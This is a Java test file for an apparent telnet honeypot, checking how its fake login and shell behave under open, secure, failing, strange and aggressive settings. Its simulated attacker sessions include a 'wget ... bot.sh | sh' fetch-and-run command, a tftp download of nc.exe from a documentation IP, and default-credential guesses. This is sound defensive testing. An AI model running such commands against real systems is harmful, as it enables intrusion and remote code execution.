package dev.mirage.service.telnet;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.mirage.core.Services;
import dev.mirage.profile.Profile;
import dev.mirage.store.SessionQuery;
import dev.mirage.store.SessionRow;
import dev.mirage.testing.Sensor;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** One dialogue per personality: what the same telnetd and login(1) do when open, secure, failing, strange, aggressive. */
class TelnetPersonalityTest {
    private static final String LINUX_PROMPT = "[guest@www guest]$ ";
    private Sensor sensor;

    private void start(String personality, String profile) throws Exception {
        sensor = Sensor.with("telnet").services(new Services(Map.of("telnet", TelnetService::new)))
                .set("sensor.personality", personality).set("sensor.profile", profile).set("sensor.seed", 7);
        sensor.start();
    }

    @AfterEach
    void stop() throws Exception {
        if (sensor != null) {
            sensor.afterEach(null);
        }
    }

    private RawTelnet connect() throws IOException {
        return new RawTelnet(sensor.port("telnet"), true);
    }

    private List<SessionQuery.EventRow> events(SessionRow row) throws Exception {
        return sensor.events(row.id());
    }

    private static List<String> misbehaviour(List<SessionQuery.EventRow> events) {
        return TelnetEvents.of(events, "misbehaviour").stream()
                .map(j -> j.at("/mirage/misbehaviour/kind").asText() + " " + j.at("/mirage/misbehaviour/detail").asText())
                .toList();
    }

    private static List<String> outcomes(List<SessionQuery.EventRow> events) {
        return TelnetEvents.of(events, "auth.attempt").stream()
                .map(j -> j.at("/user/name").asText() + ":" + j.at("/mirage/auth/secret").asText() + " "
                        + j.at("/event/outcome").asText())
                .toList();
    }

    @Test
    void openLetsAWeakAccountIntoTheFakeShellAndRecordsEveryLine() throws Exception {
        start("open", "linux");
        try (RawTelnet t = connect()) {
            t.until("login: ");
            t.send("guest\r\n");
            t.until("Password: ");
            t.send("guest\r\n");
            assertThat(t.next(LINUX_PROMPT)).endsWith("Password: \r\nLast login: Mon Nov 25 17:02:41 from 10.1.1.20\r\n"
                    + LINUX_PROMPT);
            t.send("uname -a\r\n");
            assertThat(t.next(LINUX_PROMPT)).endsWith(LINUX_PROMPT
                    + "Linux www 2.4.18-3 #1 Thu Apr 18 07:37:53 EDT 2002 i686 unknown\r\n" + LINUX_PROMPT);
            t.send("cd /tmp; id && wget http://203.0.113.9/bot.sh | sh\r\n");
            assertThat(t.next(LINUX_PROMPT)).endsWith("uid=500(guest) gid=500(guest) groups=500(guest)\r\n"
                    + "-bash: wget: command not found\r\n-bash: sh: command not found\r\n" + LINUX_PROMPT);
            t.send("exit\r\n");
            assertThat(t.toEnd()).endsWith(LINUX_PROMPT + "logout\r\n");
        }
        SessionRow row = sensor.awaitSessions(1).get(0);
        assertThat(row.reason()).isEqualTo("logout");
        List<SessionQuery.EventRow> events = events(row);
        assertThat(outcomes(events)).containsExactly("guest:guest success");
        assertThat(TelnetEvents.commands(events)).contains(
                "SHELL uname -a -> Linux www 2.4.18-3 #1 Thu Apr 18 07:37:53 EDT 2002 i686 unknown\r\n" + LINUX_PROMPT,
                "SHELL exit -> logout\r\n");
        assertThat(TelnetEvents.of(events, "command")).filteredOn(j -> j.at("/mirage/command/verb").asText().equals("SHELL"))
                .extracting(j -> j.at("/mirage/tags").toString())
                .containsExactly("", "[\"not-found\"]", "");
    }

    @Test
    void openOnWindows2000IsCmdExeWithCaseInsensitiveNamesAndCommands() throws Exception {
        start("open", "windows-2000");
        String prompt = "C:\\Documents and Settings\\test>";
        try (RawTelnet t = connect()) {
            t.until("login: ");
            t.send("TEST\r\n");
            t.until("password: ");
            t.send("test\r\n");
            assertThat(t.next(prompt)).endsWith("Welcome to Microsoft Telnet Server.\r\n"
                    + "*===============================================================\r\n" + prompt);
            t.send("VER\r\n");
            assertThat(t.next(prompt)).endsWith(prompt + "\r\nMicrosoft Windows 2000 [Version 5.00.2195]\r\n\r\n" + prompt);
            t.send("tftp -i 203.0.113.9 GET nc.exe\r\n");
            assertThat(t.next(prompt)).endsWith("'tftp' is not recognized as an internal or external command,\r\n"
                    + "operable program or batch file.\r\n\r\n" + prompt);
            t.send("exit\r\n");
            t.toEnd();
        }
        SessionRow row = sensor.awaitSessions(1).get(0);
        assertThat(row.reason()).isEqualTo("logout");
        assertThat(outcomes(events(row))).containsExactly("TEST:test success");
    }

    @Test
    void secureLetsNoAccountIn() throws Exception {
        start("secure", "linux");
        try (RawTelnet t = connect()) {
            for (String user : List.of("guest", "test", "oracle")) {
                t.until("login: ");
                t.send(user + "\r\n");
                t.until("Password: ");
                t.send(user + "\r\n");
            }
            assertThat(t.toEnd()).doesNotContain("$ ").endsWith("Password: \r\nLogin incorrect\r\n");
        }
        SessionRow row = sensor.awaitSessions(1).get(0);
        assertThat(row.reason()).isEqualTo("tries");
        List<SessionQuery.EventRow> events = events(row);
        assertThat(outcomes(events)).containsExactly("guest:guest failure", "test:test failure", "oracle:oracle failure");
        assertThat(TelnetEvents.commands(events)).noneMatch(c -> c.startsWith("SHELL"));
    }

    @Test
    void failingCutsSomeSessionsAndBreaksTheWeakAccountsHome() throws Exception {
        start("failing", "linux");
        int cut = 0;
        int broken = 0;
        for (int i = 0; i < 12 && (cut == 0 || broken == 0); i++) {
            try (RawTelnet t = connect()) {
                try {
                    t.until("login: ");
                } catch (IOException closedBeforeTheBanner) {
                    assertThat(t.text.toString()).isEmpty();
                    cut++;
                    continue;
                }
                t.send("guest\r\n");
                t.until("Password: ");
                t.send("guest\r\n");
                assertThat(t.toEnd()).endsWith("Password: \r\nNo directory /home/guest!\r\nLogging in with home = \"/\".\r\n"
                        + "login: no shell: Input/output error.\r\n");
                broken++;
            }
        }
        assertThat(cut).isPositive();
        assertThat(broken).isPositive();
        List<SessionRow> rows = sensor.awaitSessions(cut + broken);
        assertThat(rows).hasSize(cut + broken).allMatch(r -> r.reason().equals("failing"));
        for (SessionRow row : rows) {
            List<String> attempts = outcomes(events(row));
            assertThat(attempts).isIn(List.of(), List.of("guest:guest success"));
        }
    }

    @Test
    void strangeDrawsBannersPromptsAndRefusalsFromTheDiceYetStaysLogin() throws Exception {
        start("strange", "linux");
        List<String> banners = Profile.load("linux").section("telnet", TelnetTexts.class).strangeBanners();
        Set<String> seen = new HashSet<>();
        List<String> odd = new ArrayList<>();
        for (int session = 0; session < 2; session++) {
            try (RawTelnet t = connect()) {
                String banner = t.until("login: ");
                seen.add(banner.substring(0, banner.length() - "login: ".length()));
                boolean in = false;
                for (int step = 0; step < 6 && !in; step++) {
                    t.send("guest\r\n");
                    String after = t.next(": ");
                    if (after.endsWith("login: ")) {
                        odd.add("repeated prompt");
                        continue;
                    }
                    t.send("guest\r\n");
                    String answer = t.next(" ");
                    while (!answer.endsWith("login: ") && !answer.endsWith(LINUX_PROMPT)) {
                        answer = t.next(" ");
                    }
                    in = answer.endsWith(LINUX_PROMPT);
                    if (!in) {
                        odd.add("right password refused");
                    }
                }
                assertThat(in).as("session %d reaches the shell", session).isTrue();
                t.send("exit\r\n");
                t.toEnd();
            }
        }
        assertThat(banners).containsAll(seen);
        assertThat(seen.size() > 1 || !odd.isEmpty()).as("something odd in %s, %s", seen, odd).isTrue();
        for (SessionRow row : sensor.awaitSessions(2)) {
            assertThat(row.reason()).isEqualTo("logout");
            assertThat(outcomes(events(row))).last().isEqualTo("guest:guest success");
        }
    }

    @Test
    void aggressiveDetectsARootLoginAndASecondFailure() throws Exception {
        start("aggressive", "linux");
        String detected = "Login incorrect\r\n\r\nThis attempt has been logged. Unauthorized access to this system is "
                + "prohibited\r\nand has been reported to the system administrator.\r\n";
        try (RawTelnet t = connect()) {
            t.until("login: ");
            t.send("root\r\n");
            t.until("Password: ");
            t.send("toor\r\n");
            assertThat(t.toEnd()).endsWith("Password: \r\n" + detected);
        }
        try (RawTelnet t = connect()) {
            t.until("login: ");
            t.send("admin\r\n");
            t.until("Password: ");
            t.send("admin\r\n");
            t.until("login: ");
            // A weak account is no way in either: this is the second failure.
            t.send("guest\r\n");
            t.until("Password: ");
            t.send("guest\r\n");
            assertThat(t.toEnd()).endsWith("Password: \r\n" + detected);
        }
        List<SessionRow> rows = sensor.awaitSessions(2);
        assertThat(rows).extracting(SessionRow::reason).containsExactly("detected", "detected");
        List<SessionQuery.EventRow> root = events(rows.get(0));
        assertThat(misbehaviour(root)).containsExactly("root-login root");
        assertThat(outcomes(root)).containsExactly("root:toor failure");
        List<SessionQuery.EventRow> brute = events(rows.get(1));
        assertThat(misbehaviour(brute)).containsExactly("brute-force guest");
        assertThat(outcomes(brute)).containsExactly("admin:admin failure", "guest:guest failure");
        List<JsonNode> m = TelnetEvents.of(brute, "misbehaviour");
        assertThat(m.get(0).at("/event/action").asText()).isEqualTo("misbehaviour");
    }
}
